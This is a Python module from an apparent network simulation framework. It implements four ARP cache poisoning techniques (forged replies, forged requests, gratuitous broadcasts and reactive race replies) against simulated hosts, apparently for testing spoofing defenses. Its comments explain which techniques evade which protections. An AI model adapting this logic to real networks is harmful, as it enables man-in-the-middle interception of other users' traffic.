"""ARP cache poisoning — every variant the analysis distinguishes.

A :class:`PoisonTarget` says *whose cache* to poison and *which binding*
to corrupt: "make ``victim`` believe ``spoofed_ip`` lives at
``claimed_mac`` (the attacker's NIC, usually)".  Four delivery techniques
are implemented, because defenses differ exactly in which ones they stop:

``reply``
    Periodic forged *unsolicited replies* unicast to the victim.  Works
    against stacks that accept unsolicited replies (or refresh existing
    entries from them); the classic ettercap/arpspoof technique.
``request``
    Periodic forged *requests* whose sender fields carry the lie.  Works
    against stacks that update/create entries from requests (Linux-style)
    — and slips past defenses that only vet replies (Anticap's classic
    blind spot).
``gratuitous``
    Broadcast gratuitous announcements, poisoning every host that honours
    gratuitous ARP at once.
``reactive``
    Listen for the victim's genuine requests and race the true owner's
    reply.  The poisoned reply is *solicited* from the victim's point of
    view, defeating "ignore unsolicited replies" hardening.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.errors import AttackError, CodecError
from repro.net.addresses import BROADCAST_MAC, Ipv4Address, MacAddress
from repro.packets.arp import ArpPacket
from repro.packets.ethernet import EtherType, EthernetFrame
from repro.attacks.base import Attack
from repro.stack.host import Host

__all__ = ["PoisonTarget", "ArpPoisoner", "POISON_TECHNIQUES"]

POISON_TECHNIQUES = ("reply", "request", "gratuitous", "reactive")


@dataclass(frozen=True)
class PoisonTarget:
    """One lie to tell.

    Attributes
    ----------
    victim_ip, victim_mac:
        The host whose cache is being poisoned (MAC needed to unicast the
        forgery; attackers learn it with a genuine ARP beforehand).
    spoofed_ip:
        The IP whose binding is corrupted (the gateway, typically).
    claimed_mac:
        The MAC the victim should wrongly associate with ``spoofed_ip``.
    """

    victim_ip: Ipv4Address
    victim_mac: MacAddress
    spoofed_ip: Ipv4Address
    claimed_mac: MacAddress


class ArpPoisoner(Attack):
    """Sends forged ARP traffic according to one of the four techniques."""

    def __init__(
        self,
        attacker: Host,
        targets: List[PoisonTarget],
        technique: str = "reply",
        interval: float = 1.0,
        jitter_fraction: float = 0.1,
    ) -> None:
        super().__init__(attacker)
        if technique not in POISON_TECHNIQUES:
            raise AttackError(
                f"unknown technique {technique!r}; pick one of {POISON_TECHNIQUES}"
            )
        if not targets:
            raise AttackError("need at least one poison target")
        if interval <= 0:
            raise AttackError(f"interval must be positive, got {interval}")
        self.kind = f"arp-poison/{technique}"
        self.targets = list(targets)
        self.technique = technique
        self.interval = interval
        self._rng = attacker.sim.rng_stream(f"poison/{attacker.name}")
        self._jitter_fraction = jitter_fraction
        self._cancel = None
        self._untap = None
        self.races_won = 0

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def _start(self) -> None:
        if self.technique == "reactive":
            self._untap = self.attacker.frame_taps.add(self._on_sniffed_frame)
            self.attacker.promiscuous = True
            return
        self._volley()  # poison immediately, then keep refreshing
        self._cancel = self.attacker.sim.call_every(
            self.interval,
            self._volley,
            name=self.kind,
            jitter=lambda: self._rng.uniform(
                -self._jitter_fraction, self._jitter_fraction
            )
            * self.interval,
        )

    def _stop(self) -> None:
        if self._cancel is not None:
            self._cancel()
            self._cancel = None
        if self._untap is not None:
            self._untap()
            self._untap = None

    # ------------------------------------------------------------------
    # Techniques
    # ------------------------------------------------------------------
    def _volley(self) -> None:
        for target in self.targets:
            if self.technique == "reply":
                self._send_forged_reply(target)
            elif self.technique == "request":
                self._send_forged_request(target)
            elif self.technique == "gratuitous":
                self._send_gratuitous(target)

    def _send_forged_reply(self, target: PoisonTarget) -> None:
        arp = ArpPacket.reply(
            sha=target.claimed_mac,
            spa=target.spoofed_ip,
            tha=target.victim_mac,
            tpa=target.victim_ip,
        )
        self._inject(arp, dst_mac=target.victim_mac)

    def _send_forged_request(self, target: PoisonTarget) -> None:
        # A request whose *sender* fields are the lie.  Asking about the
        # victim's own address maximizes the chance of a cache update.
        arp = ArpPacket.request(
            sha=target.claimed_mac,
            spa=target.spoofed_ip,
            tpa=target.victim_ip,
        )
        self._inject(arp, dst_mac=target.victim_mac)

    def _send_gratuitous(self, target: PoisonTarget) -> None:
        arp = ArpPacket.gratuitous(
            sha=target.claimed_mac, spa=target.spoofed_ip, as_reply=True
        )
        self._inject(arp, dst_mac=BROADCAST_MAC)

    def _on_sniffed_frame(self, frame: EthernetFrame, raw: bytes) -> None:
        if not self.active or frame.ethertype != EtherType.ARP:
            return
        if frame.src == self.attacker.mac:
            return  # our own traffic
        try:
            arp = ArpPacket.decode(frame.payload)
        except CodecError:
            return
        if not arp.is_request or arp.is_gratuitous:
            return
        for target in self.targets:
            if arp.tpa == target.spoofed_ip and arp.spa == target.victim_ip:
                # The victim just asked who-has the spoofed IP: answer
                # first.  Zero processing delay models a tool that wins
                # the race against the (farther/slower) true owner.
                forged = ArpPacket.reply(
                    sha=target.claimed_mac,
                    spa=target.spoofed_ip,
                    tha=arp.sha,
                    tpa=arp.spa,
                )
                self._inject(forged, dst_mac=arp.sha)
                self.races_won += 1
                # Insist: a duplicate moments later overwrites the true
                # owner's reply on stacks that refresh from late replies,
                # so losing the first race is not fatal (real tools spam).
                self.attacker.sim.schedule(
                    0.005,
                    lambda f=forged, d=arp.sha: self.active and self._inject(f, d),
                    name=f"{self.kind}.insist",
                )

    # ------------------------------------------------------------------
    def _inject(self, arp: ArpPacket, dst_mac: MacAddress) -> None:
        frame = EthernetFrame(
            dst=dst_mac,
            src=self.attacker.mac,
            ethertype=EtherType.ARP,
            payload=arp.encode(),
        )
        self.frames_sent += 1
        # The provenance origin is what scheme-alert audit trails resolve
        # back to: "this alert was caused by attack:arp-poison/reply".
        self.attacker.transmit_frame(frame, origin=f"attack:{self.kind}")
